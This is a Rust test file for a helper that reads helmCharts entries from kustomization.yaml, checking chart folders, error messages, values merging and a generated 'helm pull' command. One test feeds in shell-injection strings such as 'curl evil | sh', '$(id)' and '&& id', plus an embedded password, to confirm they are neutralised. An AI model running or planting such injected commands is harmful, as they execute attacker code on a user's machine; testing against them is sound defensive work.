use super::*;

fn asked(text: &str) -> Result<Option<Asking>, InflateError> {
    asking("apps/kustomization.yaml", "apps", text.as_bytes())
}

fn chart(text: &str) -> Inflation {
    asked(text).unwrap().unwrap().charts.remove(0)
}

#[test]
fn a_chart_is_looked_for_where_kustomize_looks() {
    for (text, folder) in [
        ("helmCharts: [{name: a}]", "apps/charts/a"),
        ("helmCharts: [{name: a, version: '1'}]", "apps/charts/a"),
        (
            "helmCharts: [{name: a, repo: 'https://x'}]",
            "apps/charts/a",
        ),
        (
            "helmCharts: [{name: a, version: '1', repo: 'https://x'}]",
            "apps/charts/a-1/a",
        ),
        (
            "helmGlobals: {chartHome: ../vendor}\nhelmCharts: [{name: a}]",
            "vendor/a",
        ),
        (
            "helmChartInflationGenerator: [{chartName: a, chartHome: ./x/}]",
            "apps/x/a",
        ),
        ("helmGlobals: {chartHome: ..}\nhelmCharts: [{name: a}]", "a"),
    ] {
        assert_eq!(chart(text).folder, folder, "{text}");
    }
    assert_eq!(asked("resources: [helmCharts.yaml]").unwrap(), None);
    assert_eq!(asked("helmCharts: []").unwrap(), None);
    assert_eq!(asked("helmCharts: [").unwrap(), None, "kustomize says it");
}

#[test]
fn a_mistake_names_the_file_and_what_is_wrong() {
    for (text, says) in [
        ("helmCharts: [{name: a, realeaseName: b}]", "realeaseName"),
        ("helmCharts: [{version: '1'}]", "needs a name"),
        ("helmCharts: [{name: ../a}]", "needs a name"),
        ("helmCharts: [{name: a, valuesMerge: x}]", "override"),
        (
            "helmCharts: [{name: a, valuesFile: ../../x}]",
            "\"../../x\" is not in the repository",
        ),
        (
            "helmCharts: [{name: a, additionalValuesFiles: [/x]}]",
            "\"/x\" is not in the repository",
        ),
        (
            "helmCharts: [{name: a, nameTemplate: '{{ randAlpha 3 }}'}]",
            "releaseName",
        ),
        (
            "helmCharts: [{name: a, releaseName: b, nameTemplate: c}]",
            "exclude each other",
        ),
        (
            "helmGlobals: {chartHome: /x}\nhelmCharts: [{name: a}]",
            "\"/x\" is not in",
        ),
        ("helmCharts: x", "helmCharts: "),
    ] {
        let error = asked(text).unwrap_err().to_string();
        assert!(
            error.starts_with("apps/kustomization.yaml: helm"),
            "{error}"
        );
        assert!(error.contains(says), "{error}");
    }
}

#[test]
fn the_way_in_is_a_command_for_the_place_where_it_is_looked_for() {
    let text = "helmCharts: [{name: a, version: '1', repo: 'https://x'}]";
    let wanted = "helm pull a --repo https://x --version 1 --untar --untardir apps/charts/a-1`";
    assert!(chart(text).way_in.contains(wanted));
    for hostile in [
        "repo: 'https://x; curl evil | sh'",
        "repo: 'https://$(id)'",
        "repo: 'https://x`id`'",
        "repo: 'https://user:s3cret@x'",
        "repo: 'https://x', version: '1 && id'",
        "repo: 'https://x', version: '--post-renderer=./x'",
        "repo: \"https://x\\nid\"",
    ] {
        let text = format!("helmCharts: [{{name: a, {hostile}}}]");
        let way_in = chart(&text).way_in;
        assert!(way_in.starts_with("put the chart into "), "{way_in}");
        assert!(!way_in.contains("s3cret"), "{way_in}");
    }
    let oci = chart("helmCharts: [{name: a, repo: 'oci://x/y/'}]").way_in;
    assert!(
        oci.contains("helm pull oci://x/y/a --untar --untardir apps/charts`"),
        "{oci}"
    );
}

#[test]
fn fields_without_a_value_are_absent_and_a_release_has_a_name() {
    let text = "namespace: prod\nhelmCharts: [{name: a, releaseName: null, valuesInline: null, apiVersions: null}]";
    let found = chart(text);
    assert_eq!(
        (&*found.release_name, found.namespace.as_deref()),
        ("a", Some("prod"))
    );
    assert_eq!(
        chart("helmCharts: [{name: a, nameTemplate: b}]").release_name,
        "b"
    );
    let own = chart("namespace: prod\nhelmCharts: [{name: a, namespace: own}]");
    assert_eq!(own.namespace.as_deref(), Some("own"));
}

#[test]
fn the_charts_become_the_first_component() {
    let asking = asked("resources: [x]\ncomponents: [c]\nhelmCharts: [{name: a}]").unwrap();
    let text = asking.unwrap().with_component(Some("made"));
    let value: Value = serde_json::from_slice(&text).unwrap();
    assert_eq!(
        value,
        json!({"resources": ["x"], "components": ["made", "c"]})
    );
}

#[test]
fn values_are_merged_as_kustomize_merges_them() {
    let map = |value: Value| value.as_object().unwrap().clone();
    let inline = map(json!({"a": {"x": 1, "gone": null}, "list": [1], "gone": null, "own": 1}));
    let file = map(json!({"a": {"x": 2, "y": 2, "gone": 2}, "list": [2, 3], "gone": 2, "far": 2}));
    for (merge, wanted) in [
        (
            ValuesMerge::Override,
            json!({"a": {"x": 1, "y": 2}, "list": [1], "own": 1, "far": 2}),
        ),
        (
            ValuesMerge::Merge,
            json!({"a": {"x": 2, "y": 2, "gone": 2}, "list": [2, 3], "gone": 2, "own": 1, "far": 2}),
        ),
        (ValuesMerge::Replace, Value::Object(inline.clone())),
    ] {
        assert_eq!(
            merged(merge, inline.clone(), file.clone()),
            wanted,
            "{merge:?}"
        );
    }
}

#[test]
fn what_is_below_is_found_by_its_path() {
    let text = "namespace: prod\nresources: [../base, x.yaml, ../../../out]\nbases: [b]\ncomponents: [./c/]";
    let passed = Passed::of("apps/prod", text.as_bytes());
    assert_eq!(passed.namespace.as_deref(), Some("prod"));
    let below = [
        "apps/base",
        "apps/prod/x.yaml",
        "apps/prod/c",
        "apps/prod/b",
    ];
    assert_eq!(passed.below, below.map(str::to_owned).into());
    assert_eq!(Passed::of("", b"["), Passed::default());
}
